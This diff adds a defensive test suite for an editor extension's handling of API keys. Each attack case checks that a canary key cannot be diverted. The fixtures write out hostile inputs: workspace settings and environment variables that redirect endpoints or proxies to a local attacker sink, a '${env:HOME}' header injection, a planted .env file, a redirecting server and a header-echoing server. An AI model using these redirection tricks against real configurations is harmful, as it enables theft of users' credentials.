@@ -1,0 +1,263 @@
+import { once } from "node:events";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { parseBaseUrl, parseEndpoint } from "../../src/llm/send/endpoint.ts";
+import { startServer, type LoopbackServer } from "../server/server.ts";
+import { fake, workspace } from "../unit/vscode.ts";
+import { type AttackCase, type AttackClass, type AttackControl, type AttackResult, blocked, failed } from "./attackCase.ts";
+import { type HostUnderAttack, startHost } from "./hostUnderAttack.ts";
+import { type Sink, startSink } from "./sink.ts";
+
+const canary = "sk-or-v1-CANARYCANARYCANARY0000000000000000";
+const home = "loopback";
+
+/** The real host, a server that the key is for, and one that is the attacker's. */
+interface Scene {
+  readonly host: HostUnderAttack;
+  readonly server: LoopbackServer;
+  readonly attacker: Sink;
+  /** Puts the key of the canary under another origin, too. */
+  readonly keyFor: (origin: string) => void;
+}
+
+type Attempt = (scene: Scene, attack: AttackCase) => Promise<readonly string[]>;
+
+/** What a workspace says, before and after it is trusted, and in each of the two places where a folder's settings can stand. */
+async function fromWorkspace({ host, server, attacker }: Scene, settings: Readonly<Record<string, unknown>>): Promise<readonly string[]> {
+  const problems: string[] = [];
+  for (const scope of [host.settings.workspace, host.settings.folder]) {
+    for (const trusted of [false, true]) {
+      Object.assign(scope, settings);
+      host.trust(trusted);
+      const end = await host.ask("What is this?");
+      if (!end.startsWith("done")) problems.push(`the user's own server was not asked: ${end}`);
+      for (const name of Object.keys(settings)) delete scope[name];
+    }
+  }
+  if (!server.requests.some(({ headers }) => headers.authorization === `Bearer ${canary}`))
+    problems.push("the key did not reach its own server");
+  return [...problems, ...heardBy(attacker)];
+}
+
+function heardBy({ heard }: Sink): readonly string[] {
+  return heard.length === 0 ? [] : [`the attacker heard ${heard.join(", ")}`];
+}
+
+const hostile = ({ attacker }: Scene) => `http://127.0.0.1:${attacker.port}/v1`;
+
+/** Endpoint entries that a workspace might smuggle in under every name there is. */
+const redirecting = (scene: Scene): Readonly<Record<string, unknown>> => {
+  const entry = { baseUrl: hostile(scene), dialect: "openrouter", headers: { "X-Forward": "${env:HOME}" } };
+  return {
+    "aside.endpoints": { [home]: entry, evil: entry, openrouter: entry },
+    "aside.baseUrl": hostile(scene),
+    "aside.headers": { "X-Forward": "${env:HOME}" },
+    "http.proxy": hostile(scene),
+    "http.proxyStrictSSL": false,
+  };
+};
+
+const attempts: Readonly<Record<string, Attempt>> = {
+  "KEY-01": (scene) => fromWorkspace(scene, redirecting(scene)),
+  "KEY-03": (scene) => fromWorkspace(scene, redirecting(scene)),
+  "KEY-05": (scene) => fromWorkspace(scene, redirecting(scene)),
+  // That of the editor itself, which takes it from the user alone; ours reads no such setting. In a real editor: test/editor/trust.test.ts.
+  "KEY-06": (scene) => fromWorkspace(scene, redirecting(scene)),
+  "KEY-07": async (scene) => {
+    const names = ["OPENAI_BASE_URL", "OPENAI_API_BASE", "OPENROUTER_BASE_URL"];
+    for (const name of names) process.env[name] = hostile(scene);
+    process.env["OPENAI_CUSTOM_HEADERS"] = "X-Leak: 1";
+    try {
+      const problems = await fromWorkspace(scene, {});
+      return [
+        ...problems,
+        ...(scene.server.requests.some(({ headers }) => "x-leak" in headers) ? ["a header of the environment was sent"] : []),
+      ];
+    } finally {
+      for (const name of [...names, "OPENAI_CUSTOM_HEADERS"]) delete process.env[name];
+    }
+  },
+  "KEY-09": async (scene, { payload }) => {
+    const text = Object.values(payload as object).join("\n") + `\nOPENROUTER_API_KEY=other\nOPENAI_BASE_URL=${hostile(scene)}\n`;
+    fake.files.set(`${workspace.workspaceFolders?.[0]?.uri.path ?? ""}/.env`, new TextEncoder().encode(text));
+    return fromWorkspace(scene, {});
+  },
+  "KEY-10": async (scene) => {
+    const redirecting = createServer((request, response) => {
+      request.resume();
+      response.writeHead(307, { location: hostile(scene) }).end();
+    }).listen(0, "127.0.0.1");
+    await once(redirecting, "listening");
+    const origin = `http://127.0.0.1:${(redirecting.address() as AddressInfo).port}`;
+    scene.keyFor(origin);
+    scene.host.settings.user["aside.endpoints"] = { [home]: { baseUrl: `${origin}/v1`, dialect: "openrouter" } };
+    const end = await scene.host.ask("What is this?");
+    redirecting.closeAllConnections();
+    redirecting.close();
+    return [...(end.includes("redirected") ? [] : [`ended ${end}`]), ...heardBy(scene.attacker)];
+  },
+  "KEY-11": (scene, { payload }) => refusedOrAnother(payload, scene),
+  "KEY-12": (scene, { payload }) => refusedOrAnother(payload, scene),
+  "KEY-13": (scene, { payload }) => refusedOrAnother(payload, scene),
+  "KEY-15": (scene, { payload }) => refusedOrAnother(payload, scene),
+  "KEY-16": async ({ host, server }, { payload }) => {
+    const { chat } = payload as { readonly chat: string };
+    const key = chat.padEnd(chat.length + 20, "0");
+    // Asked, the person closes the question; then it is masked.
+    fake.answers.push(undefined);
+    host.receive({ type: "send", text: `My key is ${key}` });
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    const sent = server.requests.filter(({ method }) => method === "POST").length;
+    const asked = fake.messages.some((message) => message.includes("API key"));
+    fake.answers.push("Mask it and send");
+    await host.ask(`My key is ${key}`);
+    const bodies = JSON.stringify(server.requests.map(({ body }) => body));
+    const problem = parseBaseUrl(key);
+    return [
+      ...(asked ? [] : ["the person was not asked"]),
+      ...(sent === 0 ? [] : ["it was sent without a yes"]),
+      ...(bodies.includes("[redacted]") ? [] : ["the masked question was not sent"]),
+      ...(bodies.includes(key) || (await host.written()).includes(key) ? ["the key was sent or kept"] : []),
+      ...(!problem.ok && !problem.problem.includes(key) ? [] : ["the refusal of a base URL repeats what was typed"]),
+    ];
+  },
+  "KEY-17": async (scene, { payload }) => {
+    const { error } = payload as { readonly error: string };
+    const echoing = createServer((request, response) => {
+      request.resume();
+      const message = `${error} and ${request.headers.authorization ?? ""}`;
+      response.writeHead(401, { "content-type": "application/json" }).end(JSON.stringify({ error: { message, code: 401 } }));
+    }).listen(0, "127.0.0.1");
+    await once(echoing, "listening");
+    const origin = `http://127.0.0.1:${(echoing.address() as AddressInfo).port}`;
+    scene.keyFor(origin);
+    scene.host.settings.user["aside.endpoints"] = { [home]: { baseUrl: `${origin}/v1`, dialect: "openrouter" } };
+    const end = await scene.host.ask("What is this?");
+    echoing.closeAllConnections();
+    echoing.close();
+    return [...(end.includes("badKey") ? [] : [`ended ${end}`]), ...(await leaks(scene))];
+  },
+  "KEY-20": async ({ host }) => {
+    const { findStrayKeys, originOfStrayKey, withoutKey } = await import("../../src/host/signIn/strayKeys.ts");
+    const [found] = findStrayKeys([{ name: "apiKey", place: "user", value: canary }]);
+    if (found === undefined) return ["a key in settings.json is not noticed"];
+    const rest = JSON.stringify(withoutKey(canary, found) ?? null);
+    return [
+      ...(originOfStrayKey(found, {}, "https://other.invalid") === "https://openrouter.ai" ? [] : ["it is taken for another server's"]),
+      ...(rest.includes(canary) ? ["it stays in the setting"] : []),
+      ...(host.log.join("\n").includes(canary) ? ["it is in the log"] : []),
+    ];
+  },
+  "KEY-21": async ({ host }) => {
+    const problems = await askedWell(host);
+    return [...problems, ...(host.log.some((line) => line.startsWith("setKeysForSync")) ? ["something is synchronized"] : [])];
+  },
+  "KEY-22": async ({ host }) => {
+    const { maskKeys } = await import("../../src/shared/maskKeys.ts");
+    const { conversationsJson } = await import("../../src/history/exportJson.ts");
+    const { conversationMarkdown } = await import("../../src/history/exportMarkdown.ts");
+    const { addMessage, createConversation } = await import("../../src/shared/conversation.ts");
+    const said = { role: "user", id: "u", parentId: null, createdAt: 0, text: `my key ${canary}`, attachments: [] } as const;
+    const conversation = addMessage(createConversation("c", 0), said);
+    const exports = [conversationMarkdown(conversation, canary), conversationsJson([{ conversation, title: canary } as never])];
+    const problems = exports.flatMap((text) => [
+      ...(text.includes(canary) ? [] : ["the export has nothing to mask"]),
+      ...(maskKeys(text, []).includes(canary) ? ["the export holds the key"] : []),
+    ]);
+    return [...problems, ...(host.log.join("\n").includes(canary) ? ["the log holds the key"] : [])];
+  },
+  "KEY-23": async ({ host, server }) => {
+    const other = await startServer({});
+    host.settings.user["aside.endpoints"] = {
+      [home]: { baseUrl: `${server.origin}/api/v1`, dialect: "openrouter" },
+      other: { baseUrl: `${other.origin}/api/v1`, dialect: "openrouter" },
+    };
+    host.settings.user["aside.endpoint"] = "other";
+    const end = await host.ask("What is this?");
+    const told = other.requests.filter(({ headers }) => JSON.stringify(headers).includes(canary));
+    await other.close();
+    return [
+      ...(end.includes("noKey") ? [] : [`the other server was asked with something: ${end}`]),
+      ...(told.length === 0 ? [] : ["the key went to the other server"]),
+    ];
+  },
+  "KEY-24": async (scene) => [...(await askedWell(scene.host)), ...(await leaks(scene))],
+};
+
+async function askedWell(host: HostUnderAttack): Promise<readonly string[]> {
+  const end = await host.ask("What is this?");
+  return end.startsWith("done") ? [] : [`the question was not answered: ${end}`];
+}
+
+/** Where the key is that it should not be. What a person typed and did not send goes back to where they typed it. */
+async function leaks({ host }: Scene): Promise<readonly string[]> {
+  const places = {
+    "what the panel was told": JSON.stringify(host.said.filter(({ type }) => type !== "compose")),
+    "the log": host.log.join("\n"),
+    "what was written": await host.written(),
+    settings: JSON.stringify(host.settings),
+    dialogs: fake.messages.join("\n"),
+  };
+  return Object.entries(places).flatMap(([place, text]) => (text.includes("CANARYCANARY") ? [`the key is in ${place}`] : []));
+}
+
+/** Addresses that look like another's, or are not safe: refused, or at least not the origin that the key belongs to. */
+async function refusedOrAnother(payload: unknown, { host, attacker }: Scene): Promise<readonly string[]> {
+  const { baseUrl } = payload as { readonly baseUrl: string | readonly string[] };
+  const problems: string[] = [];
+  for (const url of [baseUrl].flat()) {
+    const parsed = parseEndpoint("x", { baseUrl: url });
+    const same = parsed.ok && new URL(parsed.value.baseUrl).origin === "https://openrouter.ai";
+    // Upper case and the port that https has anyway are the same place.
+    if (same && new URL(url).host !== "openrouter.ai") problems.push(`${url} counts as openrouter.ai`);
+    if (parsed.ok && !same) {
+      host.secrets.set("aside.key:https://openrouter.ai", canary);
+      host.settings.user["aside.endpoints"] = { x: { baseUrl: url } };
+      host.settings.user["aside.endpoint"] = "x";
+      const end = await host.ask("What is this?");
+      if (!end.includes("noKey")) problems.push(`${url} was asked with something: ${end}`);
+    }
+  }
+  return [...problems, ...heardBy(attacker)];
+}
+
+async function withScene<T>(act: (scene: Scene) => Promise<T>): Promise<T> {
+  const host = await startHost();
+  const server = await startServer({ keys: [canary] });
+  const attacker = await startSink();
+  const keyFor = (origin: string): void => void host.secrets.set(`aside.key:${origin}`, canary);
+  keyFor(server.origin);
+  Object.assign(host.settings.user, {
+    "aside.endpoints": { [home]: { baseUrl: `${server.origin}/api/v1`, dialect: "openrouter" } },
+    "aside.endpoint": home,
+    "aside.model": "demo/plain",
+  });
+  try {
+    return await act({ host, server, attacker, keyFor });
+  } finally {
+    await host.close();
+    await server.close();
+    await attacker.close();
+  }
+}
+
+/** Where the key goes when a repository, a server or the environment wants it. */
+export const run: AttackClass["run"] = (attack: AttackCase): Promise<AttackResult> =>
+  withScene(async (scene) => {
+    const attempt = attempts[attack.id];
+    if (attempt === undefined) return failed("nobody knows how to try this");
+    const problems = [...(await attempt(scene, attack)), ...(await leaks(scene))];
+    return problems.length === 0 ? blocked("the key went to its own origin alone, and is nowhere else") : failed(problems.join("; "));
+  });
+
+/** What a workspace may not do, the user may: then the attacker is heard of. And a key that is planted is found. */
+export const control = (): Promise<AttackControl> =>
+  withScene(async (scene) => {
+    const { host, attacker } = scene;
+    host.settings.user["aside.endpoints"] = { [home]: { baseUrl: hostile(scene), auth: "none" } };
+    await host.ask("What is this?");
+    const heard = attacker.heard.length > 0;
+    host.settings.user["planted"] = canary;
+    const found = (await leaks(scene)).length > 0;
+    return { detected: heard && found, detail: "an endpoint that is the attacker's is seen to be asked, and a planted key is found" };
+  });
